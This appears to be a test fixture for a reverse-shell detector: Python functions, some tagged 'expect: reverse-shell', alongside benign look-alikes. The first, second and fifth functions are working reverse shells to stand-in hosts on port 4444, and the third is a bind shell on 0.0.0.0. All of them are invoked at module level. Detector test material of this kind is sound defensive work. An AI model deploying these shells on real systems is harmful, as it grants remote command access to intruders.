import os
import pty
import socket
import subprocess
import threading


def first():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("192.0.2.7", 4444))
    os.dup2(s.fileno(), 0)  # expect: reverse-shell
    os.dup2(s.fileno(), 1)
    subprocess.call(["/bin/sh", "-i"])


def second():
    line = socket.create_connection(("control.acme.example", 4444))
    subprocess.Popen(["bash"], stdin=line, stdout=line)  # expect: reverse-shell


def third():
    server = socket.socket()
    server.bind(("0.0.0.0", 4444))
    server.listen(1)
    line, _ = server.accept()
    [os.dup2(line.fileno(), fd) for fd in (0, 1, 2)]  # expect: reverse-shell
    pty.spawn("/bin/bash")


def fourth():
    line = socket.create_connection(("db.acme.example", 5432))
    line.send(b"hello")
    log = open("log.txt", "w")
    os.dup2(log.fileno(), 1)
    subprocess.run(["git", "status"], stdout=log)


def fifth():
    s = socket.create_connection(("control.acme.example", 4444))
    p = subprocess.Popen(["/bin/bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    threading.Thread(target=pump, args=(s, p)).start()


def pump(s, p):
    while True:
        p.stdin.write(s.recv(1024))  # expect: reverse-shell


def sixth():
    s = socket.create_connection(("logs.acme.example", 5140))
    p = subprocess.Popen(["bash", "-c", "uptime"], stdout=subprocess.PIPE)
    s.send(p.stdout.read())


first()
second()
third()
fourth()
fifth()
sixth()
